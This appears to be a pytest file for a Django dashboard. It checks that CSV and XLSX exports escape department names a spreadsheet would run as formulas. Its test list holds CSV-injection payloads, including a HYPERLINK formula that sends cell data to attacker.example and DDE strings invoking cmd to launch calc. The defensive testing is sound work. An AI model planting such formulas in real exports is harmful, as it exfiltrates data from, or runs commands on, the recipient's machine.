"""The board's exports hold names that departments and people write (services, offices,
departments). A name that a spreadsheet would read as a formula is written as plain text in
both formats: the CMO's analyst opening the file runs nothing."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from openpyxl import load_workbook

from seva.org.models import Department
from tests.helpers import ist

# What a spreadsheet would run: a formula, and the characters it strips or reads as one.
DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _exports(client, user, name: str) -> tuple[list[list[str]], list]:
    Department.objects.filter(code="revenue").update(name_en=name)
    client.force_login(user("cmo"))
    with time_machine.travel(ist(2026, 11, 23, 12), tick=False):
        params = {"by": "department", "from": "2026-09-01", "to": "2026-11-23"}
        csv_answer = client.get("/admin/dashboard/rts/export.csv", params)
        xlsx_answer = client.get("/admin/dashboard/rts/export.xlsx", params)
    assert csv_answer.status_code == xlsx_answer.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_answer.content.decode())))
    sheet = load_workbook(io.BytesIO(xlsx_answer.content)).active
    return rows, [cell for row in sheet.iter_rows(min_row=3) for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("name", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_name_a_spreadsheet_would_run_is_exported_as_text(client, user, scenario, name):
    rows, cells = _exports(client, user, name)

    names = [row[1] for row in rows[2:]]
    assert "'" + name in names, names
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row
    )

    # An XML parser may read a carriage return back as a line feed (the standard library's
    # does, lxml's keeps it); the cell is text either way.
    values = [cell.value for cell in cells]
    assert "'" + name in values or ("'" + name).replace("\r", "\n") in values
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


@pytest.mark.django_db
def test_ordinary_names_and_numbers_are_exported_unchanged(client, user, scenario):
    rows, cells = _exports(client, user, "Revenue and Disaster Management")

    assert rows[2][1] == "Revenue and Disaster Management"
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers and all(isinstance(value, int | float) for value in numbers)
